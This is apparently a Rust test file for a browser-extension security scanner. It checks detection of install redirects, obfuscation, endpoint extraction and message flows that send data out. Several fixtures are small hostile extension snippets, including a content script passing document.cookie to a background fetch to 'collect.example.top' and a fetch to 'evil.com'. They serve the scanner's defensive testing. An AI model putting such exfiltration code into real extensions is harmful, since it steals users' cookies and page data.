mod common;

use common::{pkg, rule_ids};
use extscan::config::StaticConfig;
use extscan::static_signals::{
    correlate_message_flows, detect_risky_api_patterns, extract_endpoints, measure_obfuscation, scan_static, tokenize_js,
    EndpointContext, PackageAnalysis, SinkKind,
};

fn analyze(files: &[(&str, &str)]) -> (extscan::ExtensionPackage, PackageAnalysis) {
    let p = pkg(files);
    let a = PackageAnalysis::new(&p);
    (p, a)
}

const MV3_BG: &str = r#"{"manifest_version":3,"name":"x","version":"1","background":{"service_worker":"background.js"},"content_scripts":[{"matches":["https://*/*"],"js":["content.js"]}]}"#;

#[test]
fn onstalled_iframe_redirect() {
    let (p, a) = analyze(&[
        ("manifest.json", r#"{"manifest_version":3,"name":"x","version":"1","background":{"service_worker":"background.js"}}"#),
        ("background.js", r#"chrome.runtime.onInstalled.addListener(()=>{chrome.tabs.create({url:"photoroomeditor.html"})})"#),
        ("photoroomeditor.html", "<body><iframe src='http://photor-extens.uno/' allowfullscreen></iframe></body>"),
    ]);
    let f = detect_risky_api_patterns(&p, &a.streams);
    let ids = rule_ids(&f);
    for want in ["ONINSTALLED_REDIRECT", "IFRAME_EXTERNAL", "ONINSTALL_IFRAME_REDIRECT"] {
        assert!(ids.contains(&want), "{want} missing from {ids:?}");
    }
}

#[test]
fn anchor_funnel_is_low() {
    let (p, a) = analyze(&[
        ("manifest.json", r#"{"manifest_version":3,"name":"x","version":"1"}"#),
        ("cursorpopup.html", r#"<a href='https://owhit.com/' class="action-btn pink" target="_blank">Get More Cursors</a>"#),
    ]);
    let f = detect_risky_api_patterns(&p, &a.streams);
    assert_eq!(rule_ids(&f), ["EXTERNAL_LINK_FUNNEL"]);
    assert_eq!(f[0].severity, extscan::Severity::Low);
}

#[test]
fn no_scripts_no_findings() {
    let (p, a) = analyze(&[("manifest.json", r#"{"manifest_version":3,"name":"x","version":"1"}"#)]);
    let scan = scan_static(&p, &a, &StaticConfig::default());
    assert!(scan.findings.is_empty());
    assert!(scan.endpoints.is_empty());
}

#[test]
fn message_flow_to_external_fetch() {
    let (p, a) = analyze(&[
        ("manifest.json", MV3_BG),
        ("content.js", r#"chrome.runtime.sendMessage({action: "generateReply", text: document.body.innerText});"#),
        (
            "background.js",
            r#"const CONFIG = { API: "https://api.gosupersonic.email/api/generate-reply/" };
chrome.runtime.onMessage.addListener((req, sender, send) => {
  if (req.action === "generateReply") {
    fetch(CONFIG.API, { method: "POST", body: JSON.stringify(req) });
  }
});"#,
        ),
    ]);
    let (flows, findings) = correlate_message_flows(&p, &a.streams, &StaticConfig::default());
    assert_eq!(flows.len(), 1);
    assert_eq!(flows[0].action_key, "generateReply");
    assert_eq!(flows[0].sink.as_ref().unwrap().kind, SinkKind::Fetch);
    assert_eq!(rule_ids(&findings), ["MSG_EXFIL_FLOW"]);
}

#[test]
fn storage_only_handler_has_no_sink() {
    let (p, a) = analyze(&[
        ("manifest.json", MV3_BG),
        ("content.js", r#"chrome.runtime.sendMessage({action: "ping"});"#),
        (
            "background.js",
            r#"chrome.runtime.onMessage.addListener((m) => { if (m.action === "ping") chrome.storage.local.set({seen: Date.now()}); });"#,
        ),
    ]);
    let (flows, findings) = correlate_message_flows(&p, &a.streams, &StaticConfig::default());
    assert_eq!(flows.len(), 1);
    assert!(flows[0].sink.is_none());
    assert!(findings.is_empty());
}

#[test]
fn only_the_exfiltrating_action_is_flagged() {
    let (p, a) = analyze(&[
        ("manifest.json", MV3_BG),
        (
            "content.js",
            r#"chrome.runtime.sendMessage({type: "save", v: 1});
chrome.runtime.sendMessage({type: "upload", v: document.cookie});"#,
        ),
        (
            "background.js",
            r#"function send(d) { return fetch("https://collect.example.top/u", {method: "POST", body: d}); }
chrome.runtime.onMessage.addListener(function (msg) {
  switch (msg.type) {
    case "save": chrome.storage.local.set({v: msg.v}); break;
    case "upload": send(msg.v); break;
  }
});"#,
        ),
    ]);
    let (flows, findings) = correlate_message_flows(&p, &a.streams, &StaticConfig::default());
    assert_eq!(flows.len(), 2);
    assert_eq!(rule_ids(&findings), ["MSG_EXFIL_FLOW"]);
    assert!(findings[0].message.contains("upload"));
}

#[test]
fn flow_sender_and_receiver_come_from_the_manifest() {
    let (p, a) = analyze(&[
        ("manifest.json", MV3_BG),
        ("content.js", r#"chrome.runtime.sendMessage({action: "go"});"#),
        ("background.js", r#"chrome.runtime.onMessage.addListener((m) => { if (m.action === "go") fetch("https://x.example.com/"); });"#),
        ("other.js", r#"chrome.runtime.onMessage.addListener((m) => { fetch("https://y.example.com/"); });"#),
    ]);
    let (flows, _) = correlate_message_flows(&p, &a.streams, &StaticConfig::default());
    let cs = p.manifest.content_script_paths();
    let bg = p.manifest.background_scripts();
    for fl in &flows {
        assert!(cs.contains(&fl.sender.path));
        assert!(bg.contains(&fl.receiver.path));
    }
}

#[test]
fn config_literal_endpoint() {
    let (p, a) = analyze(&[
        ("manifest.json", r#"{"manifest_version":3,"name":"x","version":"1"}"#),
        ("config.js", r#"var e = { CEB_BASE_URL: "https://api.glimmerbloop.top/api", CEB_INSTALL_ENDPOINT: "/v2/install" };"#),
    ]);
    let eps = extract_endpoints(&p, &a.streams);
    assert!(eps
        .iter()
        .any(|e| e.url_or_host == "https://api.glimmerbloop.top/api" && e.context == EndpointContext::ConfigLiteral));
}

#[test]
fn concatenated_url_is_reassembled() {
    let (p, a) = analyze(&[
        ("manifest.json", r#"{"manifest_version":3,"name":"x","version":"1"}"#),
        ("a.js", r#"fetch("https://" + "evil.com" + "/c");"#),
    ]);
    let eps = extract_endpoints(&p, &a.streams);
    assert!(eps.iter().any(|e| e.url_or_host.starts_with("https://evil.com")), "{eps:?}");
}

#[test]
fn no_urls_no_endpoints() {
    let (p, a) = analyze(&[
        ("manifest.json", r#"{"manifest_version":3,"name":"x","version":"1"}"#),
        ("a.js", "let x = 1 + 2; console.log('hello');"),
    ]);
    assert!(extract_endpoints(&p, &a.streams).is_empty());
}

#[test]
fn obfuscator_output_trips_and_plain_source_does_not() {
    let cfg = StaticConfig::default();
    let plain = tokenize_js(b"function add(a,b){return a+b}", "add.js");
    assert!(measure_obfuscation(&plain, &cfg).1.is_none());
    let obf = std::fs::read(common::corpus().join("grammar-fixer/content.js")).unwrap();
    let (m, f) = measure_obfuscation(&tokenize_js(&obf, "content.js"), &cfg);
    assert!(f.is_some(), "{m:?}");
}

#[test]
fn random_base64_string_trips_entropy_and_blobs() {
    use rand::{Rng, SeedableRng};
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut rng = rand::rngs::StdRng::seed_from_u64(1);
    let blob: String = (0..10_000).map(|_| alphabet[rng.gen_range(0..64)] as char).collect();
    let src = format!("var p = \"{blob}\";");
    let cfg = StaticConfig::default();
    let (m, f) = measure_obfuscation(&tokenize_js(src.as_bytes(), "p.js"), &cfg);
    assert!(m.shannon_entropy_bits_per_char > cfg.obfuscation.entropy_bits_per_char);
    assert!(m.base64_blob_count >= cfg.obfuscation.base64_blob_count);
    let f = f.expect("flagged");
    assert!(f.evidence.value.as_deref().unwrap().contains("entropy"));
}

#[test]
fn vendor_bundle_with_banner_is_not_flagged_above_low() {
    let src = std::fs::read(common::corpus().join("benign-vendor-bundle/vendor/purify.min.js")).unwrap();
    let (_, f) = measure_obfuscation(&tokenize_js(&src, "purify.min.js"), &StaticConfig::default());
    assert!(f.map_or(true, |f| f.severity <= extscan::Severity::Low));
}
